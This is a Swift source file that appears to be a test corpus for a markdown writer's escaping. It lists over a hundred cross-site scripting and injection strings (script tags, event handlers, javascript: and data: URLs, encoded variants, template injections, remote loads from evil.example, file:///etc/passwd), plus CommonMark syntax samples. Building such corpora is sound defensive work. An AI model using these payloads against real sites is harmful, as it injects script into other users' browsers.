extension HostileCorpus {
  /// Attempts to make a browser do something, at least 120.
  package static let scripts: [String] = {
    let whole = [
      "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
      "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
      "]]><script>x</script>",
      "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
      "<IMG SRC=x OnErRoR=alert(1)>",
      "<img src=https://evil.example/pixel.gif>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
      "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "</svg><img src=x>",
      "</desc><script>x</script>", "<math href=javascript:alert(1)>x</math>",
      "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>x</script>'>",
      "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
      "<base href=//evil.example>",
      "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0>",
      "<style>@import '//evil.example/x.css';</style>",
      "<style>*{background:url(//evil.example)}</style>",
      "<div style=\"background:url(javascript:alert(1))\">", "<body onload=alert(1)>",
      "</main></body>",
      "<form action=javascript:alert(1)><button>x</button></form>",
      "<input autofocus onfocus=alert(1)>",
      "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
      "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
      "<template><script>x</script>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><img src=x></xmp>",
      "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>x</script>]]>",
      "<?xml version=\"1.0\"?>",
      "<!DOCTYPE x [<!ENTITY e \"x\">]>&e;", "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;script&#x3E;", "&#0000060;script",
      "&LT;script&GT;",
      "&amp;lt;script&amp;gt;", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
      "\"><img src=x>",
      "'><img src=x>", "` onmouseover=`alert(1)", "\" autofocus onfocus=alert(1) x=\"",
      "x\" style=\"x",
      "\\\"><img src=x>", "\u{FF1C}script\u{FF1E}", "%3Cscript%3E", "\\x3cscript\\x3e",
      "\\u003cscript",
      "\"]()", "\"](javascript:alert(1))", "]: javascript:alert(1)", "[ref]: javascript:alert(1)",
      "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
    ]
    let addresses = [
      "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
      "&#106;avascript:alert(1)",
      "javascript&colon;alert(1)", " javascript:alert(1)", "\u{1}javascript:alert(1)",
      "vbscript:msgbox(1)", "data:text/html,<script>x</script>",
      "data:text/html;base64,PHNjcmlwdD4=",
      "file:///etc/passwd", "smb://evil.example/x", "//evil.example/x", "ftp://evil.example",
      "blob:x",
    ]
    let places = ["[click](%)", "![x](%)", "<%>", "<a href=\"%\">x</a>"]
    let linked = addresses.flatMap { address in
      places.map { place in
        place.split(separator: "%", omittingEmptySubsequences: false).joined(separator: address)
      }
    }
    return whole + linked
  }()

  /// CommonMark that a writer must not let through as markup.
  package static let markdown = [
    "# x", "## x ##", "#", "- x", "+ x", "* x", "1. x", "1) x", "99999. x", "> x", "<b>x</b>",
    "&amp;",
    "&copy;", "***", "---", "===", "- - -", "***x***", "**x**", "_x_", "__x__", "~~x~~", "`x`",
    "```",
    "~~~", "``x`", "[x](y)", "[x]: y", "![x](y)", "<https://example.org>", "x  ", "    x", "\tx",
    "x\\",
    "\\*x\\*", "|a|b|", "a\n===", "a\n---", "a\n- b", "a\n\n# b", "a\n    b", "- [ ] x", "[^1]",
    "*", "-",
    "+", "=", "!", "&", "<", "\\", "1.", "x#", "x #", "x \\#", "a*b*c", "snake_case_name",
    "2 < 3 > 1",
  ]
}
